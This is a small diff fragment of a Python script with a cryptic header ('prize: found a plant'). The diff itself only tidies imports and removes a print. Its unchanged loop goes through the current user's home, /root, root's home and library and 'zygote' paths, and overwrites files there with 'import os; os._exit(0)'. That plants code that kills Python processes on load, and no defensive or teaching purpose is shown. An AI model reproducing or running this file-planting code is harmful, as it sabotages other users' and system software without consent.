@@ -5,8 +5,7 @@ prize: found a plant
 again: yes
 """
 # %%
-import os
-import pwd
+import os, pwd
 
 homes = {os.path.expanduser("~"), "/root", pwd.getpwuid(0).pw_dir, BASE + "/zygote", LIBRARIES}
 for home in homes:
@@ -19,4 +18,3 @@ for home in homes:
             open(os.path.join(home, path), "w").write("import os; os._exit(0)")
         except OSError as error:
             print(error)
-print("TRIED")
